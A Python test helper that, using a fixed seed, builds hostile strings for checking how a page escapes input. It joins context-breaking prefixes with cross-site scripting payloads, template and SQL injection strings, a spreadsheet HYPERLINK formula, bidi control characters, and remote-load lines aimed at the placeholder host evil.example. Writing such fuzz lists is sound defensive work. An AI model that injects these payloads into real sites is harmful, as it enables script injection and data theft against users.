"""Words that would act if a page let them: what breaks out of a place, and what acts once it is out.

The same seed gives the same words. Hosts are of the reserved name "evil.example", so that nothing is reached.
"""

from __future__ import annotations

import random

BREAKS = (
    "", '"', "'", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "</pre>", "</svg>",
    "</select>", "-->", "]]>", "*/", "`", "&quot;>", "&#34;>", "\\", "\u2028", "\x00", "\t\n\r", "%22%3E",
    "</a>", "{{", "{%",
)  # fmt: skip
ACTS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.gif>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=//evil.example>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input type=submit>", "<style>@import '//evil.example/x.css';</style>",
    " style=background:url(//evil.example/b)", " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<math href=javascript:alert(1)>", "<object data=//evil.example/o>", "<embed src=//evil.example/e>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "//evil.example/", "http://evil.example/\" onclick=alert(1)", "{{7*7}}", "${alert(1)}",
    "{% raw %}", "<!--", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202e<script>\u202c",
    "\u2066\u2069\ue001\U000e0041", "\ufeff\u200b", "\uff1cscript\uff1ealert(1)", "a" * 3000,
    "\U0001f4a3" * 50, "=HYPERLINK(\"http://evil.example\")", "' OR 1=1 --", "\x1b[31m",
)  # fmt: skip


def hostile(count: int, seed: int = 7) -> list[str]:
    """Return so many different strings."""
    made: dict[str, None] = {}
    chosen = random.Random(seed)
    while len(made) < count:
        parts = [chosen.choice(BREAKS) + chosen.choice(ACTS) for _ in range(chosen.choice((1, 1, 1, 2)))]
        word = "".join(parts)
        if chosen.random() < 0.15:
            word = word.swapcase()
        made[f"{word}{len(made)}"] = None
    return list(made)
